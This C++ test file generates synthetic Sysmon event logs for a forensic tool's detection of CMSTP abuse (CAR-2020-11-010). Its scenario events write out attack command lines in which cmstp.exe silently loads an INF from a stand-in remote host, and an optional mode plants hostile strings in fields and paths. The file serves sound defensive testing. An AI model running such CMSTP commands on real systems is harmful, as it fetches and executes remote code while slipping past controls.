#include "synthetic_scan.hpp"

#include <algorithm>
#include <array>
#include <cstdio>
#include <map>
#include <optional>
#include <string_view>

#include "filetime.hpp"

namespace evtxcar::testing {

namespace {

constexpr std::uint64_t tick_step = 4000000;                  // 0.4 s between events
constexpr filetime_ticks scan_start = 133540992000000000ULL;  // 2024-03-05T08:00:00Z
constexpr std::uint64_t scenario_every = 2500;                // one CMSTP scenario per this many events
constexpr std::uint64_t extra_records_per_host = 7;           // Security records read but not normalized

constexpr std::string_view sysmon_channel = "Microsoft-Windows-Sysmon/Operational";
constexpr std::string_view sysmon_provider = "Microsoft-Windows-Sysmon";
constexpr std::string_view cmstp_image = "C:\\Windows\\System32\\cmstp.exe";

struct program {
    std::string_view image;
    std::string_view company;
    std::string_view description;
    std::string_view hashes;
};

constexpr std::array programs = {
    program{"C:\\Windows\\System32\\svchost.exe", "Microsoft Corporation", "Host Process for Windows Services",
            "SHA1=1F912D4BEC338EF10B7C9F19976286F8ACC4EB97,MD5=8A0A29438052FAED8A2532DA50455756"},
    program{"C:\\Windows\\explorer.exe", "Microsoft Corporation", "Windows Explorer",
            "SHA1=4583DAF9442880204730FB2C8A060430640494B1,MD5=4E196CEA0C9C46A7D656C67E52E8C7C7"},
    program{"C:\\Program Files\\Mozilla Firefox\\firefox.exe", "Mozilla Corporation", "Firefox",
            "SHA1=2E4E8E7E5D9C3E5C6AA0C4F0A7B3A8F2B9C1D0E1,MD5=6F1E2D3C4B5A69788796A5B4C3D2E1F0"},
    program{"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "Microsoft Corporation",
            "Windows PowerShell", "SHA1=04C5D2B4DA9A0F3FA8A45702D4256CEE42D8C48D,MD5=097CE5761C89434367598B34FE32893B"},
    program{"C:\\Windows\\System32\\cmd.exe", "Microsoft Corporation", "Windows Command Processor",
            "SHA1=99AE9C73E9BEE6F9C76D6F4093A9882DF06832CF,MD5=911D039E71583A07320B32BDE22F8E22"},
    program{"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE", "Microsoft Corporation",
            "Microsoft Outlook", "SHA1=0A1B2C3D4E5F60718293A4B5C6D7E8F901234567,MD5=A1B2C3D4E5F60718293A4B5C6D7E8F90"},
    program{"C:\\Windows\\System32\\lsass.exe", "Microsoft Corporation", "Local Security Authority Process",
            "SHA1=E1E2E3E4E5E6E7E8E9EAEBECEDEEEFF0F1F2F3F4,MD5=F0E1D2C3B4A5968778695A4B3C2D1E0F"},
};

constexpr std::array users = {"CORP\\alice", "CORP\\bob", "NT AUTHORITY\\SYSTEM", "CORP\\svc_backup",
                              "NT AUTHORITY\\NETWORK SERVICE"};
constexpr std::array integrity_levels = {"Medium", "High", "System"};
constexpr std::array modules = {"C:\\Windows\\System32\\ntdll.dll", "C:\\Windows\\System32\\kernel32.dll",
                                "C:\\Windows\\System32\\amsi.dll", "C:\\Windows\\System32\\wininet.dll",
                                "C:\\Windows\\System32\\crypt32.dll"};
constexpr std::array ports = {"443", "80", "53", "445", "3389", "8080"};

// What CAR-2020-11-010's variants evaluate, and why one cannot look at a host.
constexpr std::string_view flow_needs = "flow/start events (Sysmon 3, Security 5156)";
constexpr std::string_view flow_missing =
    "no flow/start events from this host: no Sysmon network events (event 3) and no Security 5156 "
    "(Filtering Platform auditing)";
constexpr std::string_view process_needs = "process/create events with a command line";
constexpr std::string_view process_missing = "no process/create events with a command line from this host";

// A host that logged only Security logons: no analytic variant can look at it.
constexpr std::string_view security_only_host = "FS01";

// Per host: the events each variant examines and the detections of each.
struct host_coverage {
    std::uint64_t flows = 0;
    std::uint64_t processes = 0;
    std::map<std::string, std::uint64_t> detections;  // by variant
};

std::vector<coverage_row> coverage_rows(const std::map<std::string, host_coverage>& hosts) {
    std::vector<coverage_row> rows;
    for (const auto& [host, seen] : hosts) {
        for (std::string_view variant : {"car", "remote", "cmdline-url"}) {
            const bool flows = variant != "cmdline-url";
            coverage_row row;
            row.host = host;
            row.analytic_id = "CAR-2020-11-010";
            row.analytic_name = "CMSTP";
            row.variant = std::string(variant);
            row.events_examined = flows ? seen.flows : seen.processes;
            row.evaluable = row.events_examined > 0;
            const auto found = seen.detections.find(row.variant);
            row.detections = found == seen.detections.end() ? 0 : found->second;
            row.needs = std::string(flows ? flow_needs : process_needs);
            if (!row.evaluable) row.why_not = std::string(flows ? flow_missing : process_missing);
            rows.push_back(std::move(row));
        }
    }
    return rows;
}

// Sysmon's EventData of each event id, in its order: a name and the CAR
// field it carries (its text then is the CAR value, as in a real log, where
// the CAR value is read from it), or a fixed text.
struct payload_part {
    std::string_view name;
    std::optional<car_field> field;
    std::string_view fixed = "-";
};
constexpr payload_part utc_time{"UtcTime", std::nullopt, ""};  // the event's time, as Sysmon writes it
const std::map<std::uint32_t, std::vector<payload_part>>& sysmon_payloads() {
    static const std::map<std::uint32_t, std::vector<payload_part>> payloads = {
        {1, {{"RuleName", {}}, utc_time, {"ProcessGuid", car_field::guid}, {"ProcessId", car_field::pid},
             {"Image", car_field::image_path}, {"FileVersion", {}, "10.0.19041.1"},
             {"Description", car_field::description}, {"Product", {}, "Microsoft\u00AE Windows\u00AE Operating System"},
             {"Company", car_field::company}, {"OriginalFileName", car_field::exe},
             {"CommandLine", car_field::command_line}, {"CurrentDirectory", car_field::current_working_directory},
             {"User", car_field::user}, {"LogonGuid", {}, "{8A1F0D2C-0000-0000-0000-000000000000}"},
             {"LogonId", car_field::logon_id}, {"TerminalSessionId", car_field::terminal_session_id},
             {"IntegrityLevel", car_field::integrity_level}, {"Hashes", car_field::hashes},
             {"ParentProcessGuid", car_field::parent_guid}, {"ParentProcessId", car_field::ppid},
             {"ParentImage", car_field::parent_image_path}, {"ParentCommandLine", car_field::parent_command_line},
             {"ParentUser", car_field::user}}},
        {3, {{"RuleName", {}}, utc_time, {"ProcessGuid", car_field::guid}, {"ProcessId", car_field::pid},
             {"Image", car_field::image_path}, {"User", car_field::user}, {"Protocol", car_field::transport_protocol},
             {"Initiated", {}, "true"}, {"SourceIsIpv6", {}, "false"}, {"SourceIp", car_field::src_ip},
             {"SourceHostname", {}}, {"SourcePort", car_field::src_port}, {"SourcePortName", {}},
             {"DestinationIsIpv6", {}, "false"}, {"DestinationIp", car_field::dest_ip}, {"DestinationHostname", {}},
             {"DestinationPort", car_field::dest_port}, {"DestinationPortName", {}}}},
        {7, {{"RuleName", {}}, utc_time, {"ProcessGuid", car_field::guid}, {"ProcessId", car_field::pid},
             {"Image", car_field::image_path}, {"ImageLoaded", car_field::module_path},
             {"FileVersion", {}, "10.0.19041.1"}, {"Hashes", car_field::hashes}, {"Signed", {}, "true"},
             {"Signature", car_field::signer}, {"SignatureStatus", car_field::signature_status}, {"User", {}}}},
        {11, {{"RuleName", {}}, utc_time, {"ProcessGuid", car_field::guid}, {"ProcessId", car_field::pid},
              {"Image", car_field::image_path}, {"TargetFilename", car_field::file_path},
              {"CreationUtcTime", car_field::creation_time}, {"User", {}}}},
        {13, {{"RuleName", {}}, {"EventType", car_field::event_type}, utc_time, {"ProcessGuid", car_field::guid},
              {"ProcessId", car_field::pid}, {"Image", car_field::image_path}, {"TargetObject", car_field::key},
              {"Details", car_field::data}, {"User", {}}}},
    };
    return payloads;
}

// The event's EventData as Sysmon would have logged it, with the record's
// other System values.
void add_sysmon_payload(car_event& event) {
    const auto found = sysmon_payloads().find(event.event_id);
    if (found == sysmon_payloads().end()) return;
    event.payload = payload_kind::event_data;
    event.version = 5;
    event.level = 4;
    event.task = static_cast<std::uint16_t>(event.event_id);
    event.keywords = 0x8000000000000000ULL;
    event.user_sid = "S-1-5-18";
    for (const payload_part& part : found->second) {
        std::string value;
        if (part.name == utc_time.name) {
            value = format_iso8601_utc(event.time, 3);  // "2024-03-05T08:00:00.123Z"
            value[10] = ' ';
            value.pop_back();
        } else if (part.field) {
            const std::string* text = event.get(*part.field);
            value = text ? *text : "-";
        } else {
            value = std::string(part.fixed);
        }
        event.fields.push_back({std::string(part.name), std::move(value)});
    }
}

std::uint64_t split_mix(std::uint64_t& state) {
    std::uint64_t z = (state += 0x9E3779B97F4A7C15ULL);
    z = (z ^ (z >> 30)) * 0xBF58476D1CE4E5B9ULL;
    z = (z ^ (z >> 27)) * 0x94D049BB133111EBULL;
    return z ^ (z >> 31);
}

std::string guid_text(std::uint64_t a, std::uint64_t b) {
    char text[48];
    std::snprintf(text, sizeof text, "{%08llX-%04llX-%04llX-%04llX-%012llX}",
                  static_cast<unsigned long long>(a >> 32), static_cast<unsigned long long>((a >> 16) & 0xFFFF),
                  static_cast<unsigned long long>(a & 0xFFFF), static_cast<unsigned long long>(b >> 48),
                  static_cast<unsigned long long>(b & 0xFFFFFFFFFFFFULL));
    return text;
}

}  // namespace

synthetic_event_source::synthetic_event_source(const synthetic_scan_options& options)
    : options_(options), hosts_{"WS01", "WS02", "DC01"}, state_(options.seed) {
    if (options_.hostile) hosts_.emplace_back(hostile_strings[0]);
    next_record_id_.assign(hosts_.size(), 1000);
}

std::uint64_t synthetic_event_source::random() { return split_mix(state_); }

void synthetic_event_source::start_event(car_event& event, std::size_t host) {
    event.time = scan_start + produced_ * tick_step + random() % (tick_step / 2);
    event.file_index = static_cast<std::uint32_t>(host);
    event.record_id = next_record_id_[host]++;
    event.record_offset = 4096 + event.record_id * 600;
    event.channel = std::string(sysmon_channel);
    event.provider = std::string(sysmon_provider);
    event.set(car_field::hostname, hosts_[host]);
    event.set(car_field::fqdn, hosts_[host] + ".corp.example");
}

car_event synthetic_event_source::next() {
    const std::uint64_t position = produced_ % scenario_every;
    car_event event;
    // Short scans get one scenario at their end.
    if (position == scenario_every / 2 || (scenarios_ == 0 && produced_ + 3 == options_.events)) {
        // A scenario on every host in turn; the hostile host, when there is one, first.
        const std::uint64_t scenario = produced_ / scenario_every;
        scenario_host_ = options_.hostile ? (hosts_.size() - 1 + scenario) % hosts_.size() : scenario % hosts_.size();
        event = cmstp_process(scenario_host_);
        scenario_process_ = event;
        scenario_step_ = 1;
        ++scenarios_;
    } else if (scenario_step_ >= 1 && scenario_step_ <= 2) {
        event = cmstp_connection(scenario_host_);
        scenario_step_ = scenario_step_ == 2 ? -1 : scenario_step_ + 1;
    } else {
        event = ordinary_event();
    }
    if (options_.unique_values) {
        const std::string suffix = "~" + std::to_string(produced_);
        for (car_value& value : event.values) {
            if (value.field != car_field::hostname) value.text += suffix;
        }
    }
    add_sysmon_payload(event);
    ++produced_;
    return event;
}

car_event synthetic_event_source::ordinary_event() {
    car_event event;
    const std::size_t host = static_cast<std::size_t>(random() % hosts_.size());
    start_event(event, host);
    const program& acting = programs[random() % programs.size()];
    const std::uint64_t kind = random() % 100;
    event.set(car_field::image_path, std::string(acting.image));
    event.set(car_field::pid, std::to_string(400 + random() % 12000));
    event.set(car_field::guid, guid_text(random(), random()));
    const std::string user = users[random() % users.size()];
    if (kind < 35) {
        const program& parent = programs[random() % programs.size()];
        event.object = "process";
        event.action = "create";
        event.event_id = 1;
        event.set(car_field::exe, std::string(acting.image.substr(acting.image.rfind('\\') + 1)));
        event.set(car_field::ppid, std::to_string(400 + random() % 12000));
        event.set(car_field::parent_guid, guid_text(random(), random()));
        event.set(car_field::command_line, "\"" + std::string(acting.image) + "\" --task " +
                                               std::to_string(random() % 100000) + " /profile " +
                                               std::to_string(random() % 5000));
        event.set(car_field::parent_image_path, std::string(parent.image));
        event.set(car_field::parent_command_line, "\"" + std::string(parent.image) + "\"");
        event.set(car_field::current_working_directory, "C:\\Windows\\system32\\");
        event.set(car_field::user, user);
        event.set(car_field::integrity_level, integrity_levels[random() % integrity_levels.size()]);
        event.set(car_field::logon_id, "0x" + std::to_string(100000 + random() % 40));
        event.set(car_field::terminal_session_id, "1");
        event.set(car_field::company, std::string(acting.company));
        event.set(car_field::description, std::string(acting.description));
        event.set(car_field::hashes, std::string(acting.hashes));
    } else if (kind < 60) {
        const bool outbound = random() % 5 != 0;
        event.object = "flow";
        event.action = "start";
        event.event_id = 3;
        event.set(car_field::user, user);
        event.set(car_field::src_ip, "10.0." + std::to_string(host) + "." + std::to_string(10 + host));
        event.set(car_field::src_port, std::to_string(49152 + random() % 16000));
        event.set(car_field::dest_ip, "198.51.100." + std::to_string(random() % 250));
        event.set(car_field::dest_port, ports[random() % ports.size()]);
        event.set(car_field::transport_protocol, random() % 4 == 0 ? "udp" : "tcp");
        event.set(car_field::network_direction, outbound ? "outbound" : "inbound");
    } else if (kind < 75) {
        event.object = "file";
        event.action = "create";
        event.event_id = 11;
        event.set(car_field::file_path, "C:\\Users\\alice\\AppData\\Local\\Temp\\tmp" +
                                            std::to_string(random() % 100000) + ".tmp");
        event.set(car_field::creation_time, format_iso8601_utc(event.time, 3));
    } else if (kind < 88) {
        event.object = "registry";
        event.action = "edit";
        event.event_id = 13;
        event.set(car_field::event_type, "SetValue");
        event.set(car_field::key, "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\entry" +
                                      std::to_string(random() % 300));
        event.set(car_field::data, "C:\\ProgramData\\update" + std::to_string(random() % 1000) + ".exe");
    } else {
        event.object = "module";
        event.action = "load";
        event.event_id = 7;
        event.set(car_field::module_path, modules[random() % modules.size()]);
        event.set(car_field::hashes, std::string(acting.hashes));
        event.set(car_field::signature_status, "Valid");
        event.set(car_field::signer, "Microsoft Windows");
    }
    return event;
}

car_event synthetic_event_source::cmstp_process(std::size_t host) {
    car_event event;
    start_event(event, host);
    const bool hostile_host = options_.hostile && host == hosts_.size() - 1;
    const std::string inf = "\\\\203.0.113.7\\share\\profile" + std::to_string(produced_) + ".inf";
    event.object = "process";
    event.action = "create";
    event.event_id = 1;
    event.set(car_field::image_path, std::string(cmstp_image));
    event.set(car_field::exe, "cmstp.exe");
    event.set(car_field::pid, std::to_string(5000 + produced_ % 1000));
    event.set(car_field::guid, guid_text(0xC0FFEE0000000000ULL + produced_, 0x5EED));
    event.set(car_field::ppid, "4120");
    event.set(car_field::parent_guid, guid_text(0xBADC0DE000000000ULL + produced_, 0x5EED));
    event.set(car_field::parent_image_path, "C:\\Windows\\System32\\cmd.exe");
    if (hostile_host) {
        const auto& planted = hostile_strings;
        event.set(car_field::command_line, "cmstp.exe /s " + std::string(planted[1]) + " " + std::string(planted[2]) +
                                               " http://203.0.113.7/x.inf");
        event.set(car_field::parent_command_line,
                  "cmd.exe /c start " + std::string(planted[4]) + " " + std::string(planted[6]));
        event.set(car_field::user, std::string(planted[3]));
    } else {
        event.set(car_field::command_line, "cmstp.exe /s /ns " + inf + " http://203.0.113.7/x.inf");
        event.set(car_field::parent_command_line, "cmd.exe /c cmstp.exe /s /ns " + inf);
        event.set(car_field::user, "CORP\\alice");
    }
    event.set(car_field::integrity_level, "Medium");
    event.set(car_field::company, "Microsoft Corporation");
    event.set(car_field::description, "Microsoft Connection Manager Profile Installer");
    event.analytics = {"CAR-2020-11-010:cmdline-url"};
    return event;
}

car_event synthetic_event_source::cmstp_connection(std::size_t host) {
    car_event event;
    start_event(event, host);
    event.object = "flow";
    event.action = "start";
    event.event_id = 3;
    event.set(car_field::image_path, std::string(cmstp_image));
    event.set(car_field::pid, std::string(scenario_process_.text(car_field::pid)));
    event.set(car_field::guid, std::string(scenario_process_.text(car_field::guid)));
    event.set(car_field::user, std::string(scenario_process_.text(car_field::user)));
    event.set(car_field::src_ip, "10.0." + std::to_string(host) + "." + std::to_string(10 + host));
    event.set(car_field::src_port, std::to_string(50000 + produced_ % 10000));
    event.set(car_field::dest_ip, "203.0.113.7");
    event.set(car_field::dest_port, scenario_step_ == 1 ? "443" : "80");
    event.set(car_field::transport_protocol, "tcp");
    event.set(car_field::network_direction, "outbound");
    event.analytics = {"CAR-2020-11-010:remote"};
    return event;
}

void synthetic_detections::observe(const car_event& event) {
    if (event.object == "process" && event.text(car_field::image_path) == cmstp_image) processes_.push_back(event);
    for (const std::string& label : event.analytics) {
        detection found;
        found.analytic_id = label.substr(0, label.find(':'));
        found.analytic_name = "CMSTP";
        found.technique = "T1218.003";
        found.variant = label.substr(label.find(':') + 1);
        found.reason = found.variant == "remote" ? "cmstp.exe connected to " + std::string(event.text(car_field::dest_ip)) +
                                                       ", outside HOMENET"
                                                 : "cmstp.exe was started with a URL on its command line";
        found.event = event;
        for (auto process = processes_.rbegin(); process != processes_.rend(); ++process) {
            if (process->text(car_field::guid) == event.text(car_field::guid) &&
                process->text(car_field::hostname) == event.text(car_field::hostname)) {
                found.process = *process;
                break;
            }
        }
        detections_.push_back(std::move(found));
    }
}

synthetic_totals count_synthetic_scan(const synthetic_scan_options& options) {
    synthetic_totals totals;
    scan_summary& summary = totals.summary;
    synthetic_event_source source(options);
    synthetic_detections detections;
    std::vector<file_outcome> files(source.hosts().size());
    std::map<std::string, host_coverage> coverage;
    while (!source.done()) {
        const car_event event = source.next();
        detections.observe(event);
        host_coverage& host = coverage[std::string(event.text(car_field::hostname))];
        host.flows += event.object == "flow" && event.action == "start";
        host.processes += event.object == "process" && event.action == "create" && event.get(car_field::command_line);
        for (const std::string& label : event.analytics) ++host.detections[label.substr(label.find(':') + 1)];
        file_outcome& file = files[event.file_index];
        ++file.records_read;
        if (file.first_time == 0) file.first_time = event.time;
        file.last_time = event.time;
        if (summary.first_time == 0) summary.first_time = event.time;
        summary.last_time = event.time;
        ++summary.timeline_events;
        ++summary.events_by_object_action[event.object + "/" + event.action];
        ++summary.records_by_host[std::string(event.text(car_field::hostname))];
        ++summary.records_by_channel[event.channel];
        ++summary.records_by_provider[event.provider];
        ++summary.records_by_event_id[event.provider + "/" + std::to_string(event.event_id)];
        for (const std::string& label : event.analytics) ++summary.detections_by_analytic[label];
        for (const car_value& value : event.values) totals.field_text_bytes += value.text.size();
        // Of the payload, the text the CAR fields do not already hold.
        for (const payload_field& field : event.fields) {
            const bool repeated = std::any_of(event.values.begin(), event.values.end(),
                                              [&field](const car_value& value) { return value.text == field.value; });
            if (!repeated) totals.field_text_bytes += field.value.size();
        }
    }
    const bool hostile = options.hostile;
    const auto& planted = hostile_strings;
    auto count_security_records = [&summary](const std::string& name) {
        summary.records_by_host[name] += extra_records_per_host;
        summary.records_by_channel["Security"] += extra_records_per_host;
        summary.records_by_provider["Microsoft-Windows-Security-Auditing"] += extra_records_per_host;
        summary.records_by_event_id["Microsoft-Windows-Security-Auditing/4624"] += extra_records_per_host;
    };
    for (std::size_t host = 0; host < files.size(); ++host) {
        file_outcome& file = files[host];
        const std::string& name = source.hosts()[host];
        file.path = "evidence/" + name + "/Microsoft-Windows-Sysmon%4Operational.evtx";
        file.bytes = 69632 + file.records_read * 600;
        file.records_read += extra_records_per_host;  // Security records: read, not normalized
        count_security_records(name);
    }
    // FS01 logged Security logons only: read, nothing normalized, nothing an analytic can look at.
    file_outcome security_only;
    security_only.path = "evidence/" + std::string(security_only_host) + "/Security.evtx";
    security_only.bytes = 69632;
    security_only.records_read = extra_records_per_host;
    security_only.first_time = scan_start;
    security_only.last_time = scan_start;
    files.push_back(security_only);
    count_security_records(std::string(security_only_host));
    coverage[std::string(security_only_host)];
    summary.coverage = coverage_rows(coverage);
    // WS02's file lost a chunk; a file in the collection is not EVTX at all.
    files[1].status = file_status::partial;
    files[1].records_failed = 3;
    files[1].reason = "chunk 2: checksum mismatch";
    file_outcome broken;
    broken.path = hostile ? "evidence/" + std::string(planted[5]) + "/Security.evtx" : "evidence/broken/Security.evtx";
    broken.bytes = 1234;
    broken.status = file_status::unreadable;
    broken.reason = hostile ? "file header signature is not ElfFile: " + std::string(planted[1])
                            : "file header signature is not ElfFile";
    files.push_back(broken);
    for (const file_outcome& file : files) summary.records_read += file.records_read;
    summary.records_failed = files[1].records_failed;
    summary.files = files;
    for (std::uint64_t i = 0; i < 3; ++i) {
        read_error error;
        error.file = files[1].path;
        error.chunk = 2;
        error.offset = 0x21000 + i * 0x200;
        error.record_index = 40 + i;
        error.reason = hostile ? "record checksum mismatch " + std::string(planted[2]) : "record checksum mismatch";
        summary.problems.push_back({error, 1, false});
    }
    {
        read_error error;
        error.file = broken.path;
        error.reason = broken.reason;
        summary.problems.push_back({error, 0, false});
    }

    run_description& run = summary.run;
    run.tool_version = "0.1.0";
    run.command_line = {"evtxcar", "scan", "evidence", "-o", "out", "--homenet", "10.0.0.0/8"};
    if (hostile) run.command_line.emplace_back(planted[6]);
    run.inputs = {"evidence"};
    run.output_directory = "out";
    run.homenet = {"10.0.0.0/8", "172.16.0.0/12", "192.168.0.0/16"};
    run.engine = "libevtx";
    run.threads = 2;
    run.started_utc = "2024-03-06T09:15:00Z";
    run.finished_utc = "2024-03-06T09:15:04Z";
    run.seconds = 4.2;
    totals.detections = detections.all();
    return totals;
}

synthetic_scan make_synthetic_scan(const synthetic_scan_options& options) {
    synthetic_totals totals = count_synthetic_scan(options);
    synthetic_scan scan{std::move(totals.summary), {}, std::move(totals.detections)};
    synthetic_event_source source(options);
    while (!source.done()) scan.events.push_back(source.next());
    return scan;
}

}  // namespace evtxcar::testing
